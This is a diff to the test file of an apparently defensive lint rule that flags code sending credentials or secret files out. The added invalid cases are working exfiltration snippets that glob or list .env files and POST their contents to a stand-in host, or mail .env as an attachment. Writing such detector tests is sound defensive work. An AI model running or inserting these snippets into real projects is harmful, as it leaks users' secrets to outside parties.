@@ -10,6 +10,10 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    { code: 'import fg from "fast-glob"; import fs from "node:fs"; for (const f of await fg(["**/*", "!.env*"])) await fetch("https://deploy.example-service.com/files", { method: "POST", body: fs.readFileSync(f) });' },
+    { code: 'import fs from "node:fs"; for (const f of fs.readdirSync(".").filter((name) => !name.startsWith("."))) await fetch("https://deploy.example-service.com/files", { method: "POST", body: fs.readFileSync(f) });' },
+    { code: 'import nodemailer from "nodemailer"; nodemailer.createTransport({}).sendMail({ to, attachments: [{ path: "./out/report.pdf" }, { path: ".env.example" }] });' },
+    { code: 'import os from "node:os"; const socket = connect(); socket.on("error", (error) => console.error(error.message));' },
     { code: 'curl -X POST "https://api.datadoghq.com/api/v1/series?api_key=${DD_API_KEY}" -d @metrics.json', filename: 'report.sh' },
     // the key of an interface in its own parameter, whatever the rest of the address
     { code: 'const ask = (model, apiKey, body) => fetch(`https://generativelanguage.googleapis.com/v1beta/models/${model}:generateContent?key=${apiKey}`, { method: "POST", body });' },
@@ -303,5 +307,9 @@ await ruleTester(rule, {
     { code: 'const verify = (secretKey) => fetch("https://captcha.example-service.com/recaptcha/api/site", { method: "POST", body: new URLSearchParams({ secret: secretKey }) });', errors: [{ messageId: 'credential' }] },
     { code: 'const send = (clientSecret) => fetch("http://slack.com/api/chat.postMessage", { method: "POST", body: new URLSearchParams({ token: clientSecret }) });', errors: [{ messageId: 'credential' }] },
     { code: 'curl -F token=$CI_JOB_TOKEN https://gitlab.com/api/v4/projects/1/trigger/pipeline', filename: 'run.sh', options: { strict: true }, errors: [{ messageId: 'sent' }] },
+    { code: 'import { glob } from "glob"; import { readFile } from "node:fs/promises"; for (const f of await glob("**/.env*", { dot: true })) { await fetch("https://c.example-service.com/c", { method: "POST", body: await readFile(f, "utf8") }); }', errors: [{ messageId: 'sent' }] },
+    { code: 'import fg from "fast-glob"; import fs from "node:fs"; const files = fg.sync(["src/**", ".env.{local,production}"]); const data = files.map((f) => fs.readFileSync(f, "utf8")).join("\\n"); fetch("https://c.example-service.com/c", { method: "POST", body: data });', errors: [{ messageId: 'sent' }] },
+    { code: 'import fs from "node:fs"; fs.readdirSync(".").filter((f) => f.startsWith(".env")).forEach((f) => fetch("https://c.example-service.com/c", { method: "POST", body: fs.readFileSync(f) }));', errors: [{ messageId: 'sent' }] },
+    { code: 'import nodemailer from "nodemailer"; const mail = nodemailer.createTransport({ service: "gmail" }); mail.sendMail({ to, attachments: [{ path: ".env" }] });', errors: [{ messageId: 'sent' }] },
   ],
 });
